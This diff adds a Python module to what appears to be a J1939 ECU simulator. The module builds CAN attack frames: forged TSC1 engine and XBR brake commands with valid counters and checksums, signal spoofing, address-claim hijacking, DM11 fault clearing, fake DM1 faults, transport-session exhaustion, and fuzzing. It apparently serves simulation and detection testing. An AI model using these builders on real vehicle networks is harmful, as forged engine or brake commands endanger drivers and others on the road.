@@ -1,0 +1,226 @@
+"""Each attack kind as the frames it sends at the n-th tick of its window.
+
+The frames are built from the project's own J1939 layer (requests, transport, DM messages) and
+the DBC (TSC1, XBR and a spoofed message, with the counter and checksum J1939-71 asks for), so
+an attack is exactly as valid as the traffic it imitates: a receiver that checks counters and
+checksums still takes it. Everything random comes from the generator handed in, so the same
+seed gives the same frames.
+"""
+
+from __future__ import annotations
+
+import math
+import random
+from collections.abc import Callable
+
+import can
+from cantools.database.can import Database, Message
+
+from ecu_sim.attack.spec import Attack
+from ecu_sim.codec.command import CommandCodec
+from ecu_sim.codec.role import RoleCodec
+from ecu_sim.codec.spn import messages_with, spn_signals
+from ecu_sim.errors import ConfigError
+from ecu_sim.j1939 import dm
+from ecu_sim.j1939.frames import ADDRESS_CLAIMED_PGN, Pdu, arbitration_id
+from ecu_sim.j1939.ids import GLOBAL_ADDRESS, destination_of, make_id, source_address_of
+from ecu_sim.j1939.request import request, single_frame
+from ecu_sim.j1939.transport import BAM, CTS, abort, cm
+from ecu_sim.runtime.ticks import ticks_in
+
+#: n (ticks since the window opened) -> the frames of that tick
+Frames = Callable[[int], list[can.Message]]
+#: DM11, the clearing of active DTCs, is asked for by a Request of its PGN (J1939-73)
+DM11_PGN = 0xFED3
+DM1_PGN = 0xFECA
+# TSC1 and XBR SPNs (J1939-71)
+_TSC1_MODE, _TSC1_PRIORITY, _TSC1_SPEED, _TSC1_TORQUE = 695, 897, 898, 518
+_XBR_DEMAND, _XBR_PRIORITY, _XBR_MODE = 2920, 2915, 2916
+_TSC1_MODES = {"speed": 1, "torque": 2, "limit": 3}
+_XBR_MODES = {"add": 1, "max": 2}
+
+
+def frame(pdu: Pdu, source: int) -> can.Message:
+    return can.Message(arbitration_id=arbitration_id(pdu, source), data=pdu.data, is_extended_id=True)
+
+
+def per_tick(rate_hz: float, period_s: float) -> Callable[[int], int]:
+    """How many frames tick n sends so that a window sends ``rate_hz`` a second on average, bursts
+    spread evenly: the whole frames due by the end of tick n less those due by its start."""
+    share = rate_hz * period_s
+
+    def count(n: int) -> int:
+        return math.floor(round((n + 1) * share, 9)) - math.floor(round(n * share, 9))
+    return count
+
+
+def every(seconds: float, period_s: float) -> Callable[[int], bool]:
+    """Whether tick n sends: once at the start for 0 s, else every ``seconds``."""
+    step = max(1, ticks_in(seconds, period_s)) if seconds > 0 else 0
+    return (lambda n: n % step == 0) if step else (lambda n: n == 0)
+
+
+def build(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
+    """The frames of ``attack``; ConfigError when the DBC lacks what the attack imitates."""
+    return _BUILDERS[attack.kind](attack, database, period_s, rng)
+
+
+def _repeat(make: Callable[[], can.Message], count: Callable[[int], int]) -> Frames:
+    return lambda n: [make() for _ in range(count(n))]
+
+
+def _tsc1(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
+    target = attack.address("target")
+    found = [m for m in messages_with(database, _TSC1_TORQUE)
+             if m.is_extended_frame and destination_of(m.frame_id) == target]
+    if not found:
+        known = ", ".join(f"0x{destination_of(m.frame_id):02x}"
+                          for m in messages_with(database, _TSC1_TORQUE))
+        raise ConfigError(f"--attack {attack.text!r}: the DBC has no TSC1 to 0x{target:02x}; "
+                          f"it has TSC1 to {known or 'nobody'}")
+    speed, torque, mode = attack.get("speed"), attack.get("torque"), attack.get("mode")
+    chosen = str(mode) if mode is not None else "speed" if speed is not None else "torque"
+    if chosen not in _TSC1_MODES:
+        raise ConfigError(f"--attack {attack.text!r}: mode={chosen} is not one of {', '.join(_TSC1_MODES)}")
+    if speed is None and torque is None:
+        raise ConfigError(f"--attack {attack.text!r}: tsc1 needs speed=RPM or torque=PCT")
+    codec = CommandCodec(found[0], attack.address("source"))
+    fixed = {_TSC1_MODE: float(_TSC1_MODES[chosen]), _TSC1_PRIORITY: attack.number("priority")}
+    demands = {spn: float(v) for spn, v in ((_TSC1_SPEED, speed), (_TSC1_TORQUE, torque))
+               if isinstance(v, float)}
+    return _command(codec, fixed, demands, per_tick(attack.number("rate"), period_s))
+
+
+def _xbr(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
+    found = [m for m in messages_with(database, _XBR_DEMAND) if m.is_extended_frame]
+    if not found:
+        raise ConfigError(f"--attack {attack.text!r}: the DBC has no XBR (SPN {_XBR_DEMAND})")
+    mode = str(attack.get("mode"))
+    if mode not in _XBR_MODES:
+        raise ConfigError(f"--attack {attack.text!r}: mode={mode} is not one of {', '.join(_XBR_MODES)}")
+    codec = CommandCodec(found[0], attack.address("source"))
+    codec.frame_id = make_id(0x0400, attack.address("source"), attack.address("target"),
+                             found[0].frame_id >> 26 & 7)
+    fixed = {_XBR_MODE: float(_XBR_MODES[mode]), _XBR_PRIORITY: attack.number("priority")}
+    return _command(codec, fixed, {_XBR_DEMAND: attack.number("accel")},
+                    per_tick(attack.number("rate"), period_s))
+
+
+def _command(codec: CommandCodec, fixed: dict[int, float], demands: dict[int, float],
+             count: Callable[[int], int]) -> Frames:
+    """A command stream whose counter runs on from frame to frame, as a genuine sender's does."""
+    sent = [0]
+
+    def make() -> can.Message:
+        data = codec.encode(fixed, demands, sent[0])
+        sent[0] += 1
+        return can.Message(arbitration_id=codec.frame_id, data=data, is_extended_id=True)
+    return _repeat(make, count)
+
+
+def _spoof(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
+    name = str(attack.get("message"))
+    message = _message(database, name, attack)
+    spn = attack.address("spn")
+    signals = spn_signals(message, {spn})
+    if not signals:
+        raise ConfigError(f"--attack {attack.text!r}: {message.name} carries no SPN {spn}")
+    source = attack.get("source")
+    sender = source_address_of(message.frame_id) if source is None else int(float(str(source)))
+    data = RoleCodec(message, signals[0][1], is_j1939=False).encode(attack.number("value"))
+    ident = (message.frame_id & ~0xFF) | sender
+    return _repeat(lambda: can.Message(arbitration_id=ident, data=data, is_extended_id=True),
+                   per_tick(attack.number("rate"), period_s))
+
+
+def _message(database: Database, name: str, attack: Attack) -> Message:
+    for message in database.messages:
+        if message.name.lower() == name.lower():
+            return message
+    names = ", ".join(sorted(m.name for m in database.messages))
+    raise ConfigError(f"--attack {attack.text!r}: the DBC has no message {name!r}; it has {names}")
+
+
+def _request(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
+    pdu, source = request(attack.address("pgn"), attack.address("target")), attack.address("source")
+    return _repeat(lambda: frame(pdu, source), per_tick(attack.number("rate"), period_s))
+
+
+def _exhaust(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
+    """MUK's connection exhaustion: each source asks, then keeps its session open with CTS."""
+    pgn, target = attack.address("pgn"), attack.address("target")
+    sources = attack.get("sources")
+    assert isinstance(sources, tuple)
+    due = every(attack.number("every"), period_s)
+    hold = cm({"ControlByte": CTS, "CTS_Packets": 1, "CTS_NextSequence": 1, "CTS_PGN": pgn}, target)
+
+    def frames(n: int) -> list[can.Message]:
+        if n == 0:
+            return [frame(request(pgn, target), s) for s in sources]
+        return [frame(hold, s) for s in sources] if due(n) else []
+    return frames
+
+
+def _once_or_every(pdu: Pdu, source: int, attack: Attack, period_s: float) -> Frames:
+    due = every(attack.number("every"), period_s)
+    return lambda n: [frame(pdu, source)] if due(n) else []
+
+
+def _claim(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
+    name = int(attack.number("name")).to_bytes(8, "little")
+    pdu = Pdu(ADDRESS_CLAIMED_PGN, name, GLOBAL_ADDRESS, 6)
+    return _once_or_every(pdu, attack.address("target"), attack, period_s)
+
+
+def _dm11(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
+    pdu = request(DM11_PGN, attack.address("target"))
+    return _once_or_every(pdu, attack.address("source"), attack, period_s)
+
+
+def _dm1(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
+    try:
+        dtc = dm.pack_dtc(dm.Dtc(attack.address("spn"), attack.address("fmi")), 1)
+    except ValueError as exc:
+        raise ConfigError(f"--attack {attack.text!r}: {exc}") from None
+    amber_on = 0b01 << 2
+    pdu = single_frame(DM1_PGN, bytes((amber_on, 0xFF)) + dtc, GLOBAL_ADDRESS)
+    source = attack.address("source")
+    return _repeat(lambda: frame(pdu, source), per_tick(attack.number("rate"), period_s))
+
+
+def _abort(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
+    pdu = abort(attack.address("pgn"), attack.address("reason"), attack.address("target"))
+    source = attack.address("source")
+    return _repeat(lambda: frame(pdu, source), per_tick(attack.number("rate"), period_s))
+
+
+def _bam(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
+    size = attack.address("size")
+    if not 9 <= size <= 1785:
+        raise ConfigError(f"--attack {attack.text!r}: size={size} is not a transport size 9..1785")
+    pdu = cm({"ControlByte": BAM, "BAM_TotalSize": size, "BAM_TotalPackets": -(-size // 7),
+              "BAM_PGN": attack.address("pgn")}, GLOBAL_ADDRESS)
+    source = attack.address("source")
+    return _repeat(lambda: frame(pdu, source), per_tick(attack.number("rate"), period_s))
+
+
+def _fuzz(attack: Attack, database: Database, period_s: float, rng: random.Random) -> Frames:
+    pgn, source = attack.get("pgn"), attack.get("source")
+
+    def make() -> can.Message:
+        data = rng.randbytes(8)
+        if pgn is None:
+            ident = rng.getrandbits(29)
+        else:
+            sender = rng.randrange(0xFE) if source is None else int(float(str(source)))
+            ident = make_id(int(float(str(pgn))), sender, rng.randrange(0x100), 6)
+        if source is not None:
+            ident = (ident & ~0xFF) | int(float(str(source)))
+        return can.Message(arbitration_id=ident, data=data, is_extended_id=True)
+    return _repeat(make, per_tick(attack.number("rate"), period_s))
+
+
+_BUILDERS: dict[str, Callable[[Attack, Database, float, random.Random], Frames]] = {
+    "tsc1": _tsc1, "xbr": _xbr, "spoof": _spoof, "request": _request, "exhaust": _exhaust,
+    "claim": _claim, "dm11": _dm11, "dm1": _dm1, "abort": _abort, "bam": _bam, "fuzz": _fuzz,
+}
